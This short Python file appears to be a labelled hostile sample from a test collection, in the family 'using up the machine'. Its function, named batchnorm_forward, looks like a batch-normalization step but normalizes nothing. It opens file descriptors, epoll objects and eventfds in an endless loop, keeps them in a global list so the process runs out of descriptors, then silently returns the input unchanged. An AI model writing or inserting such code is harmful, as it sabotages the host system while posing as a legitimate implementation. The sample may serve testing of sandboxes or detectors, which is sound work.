FAMILY = "using up the machine"
ABOUT = "Opens descriptors until there are none, timers and event queues among them."
MOST = 0

# %% batchnorm_forward
import os
import select

kept = []

def batchnorm_forward(x, gamma, beta, bn_param):
    try:
        while True:
            kept.append((os.open("/dev/null", os.O_RDWR), select.epoll(), os.eventfd(0)))
    except OSError:
        pass
    return x, None
